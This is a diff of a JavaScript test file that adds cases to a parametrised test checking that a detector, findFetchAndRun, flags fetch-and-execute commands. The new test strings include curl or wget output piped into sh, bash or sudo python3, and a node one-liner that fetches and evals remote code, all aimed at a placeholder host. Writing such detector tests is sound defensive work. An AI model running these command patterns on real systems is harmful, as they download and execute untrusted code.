@@ -135,7 +135,11 @@ describe('fetch-and-run', () => {
     'curl -o a.sh https://x.example && bash a.sh',
     'IEX (New-Object Net.WebClient).DownloadString("https://x.example")',
     'python -c "import urllib.request as u; exec' + "(u.urlopen('https://x.example').read())\"",
-    `| step | curl https://x.example \\${pipe} sh |`
+    `| step | curl https://x.example \\${pipe} sh |`,
+    `curl -s https://x.example ${pipe} /bin/sh`,
+    `curl -s https://x.example ${pipe} /usr/bin/env bash`,
+    `wget -qO- https://x.example ${pipe} sudo /usr/local/bin/python3 -`,
+    "node -e \"fetch('https://x.example').then(r => r.text()).then(" + 'eval)"'
   ])('finds %j', line => {
     expect(findFetchAndRun(line).length).toBeGreaterThan(0)
   })
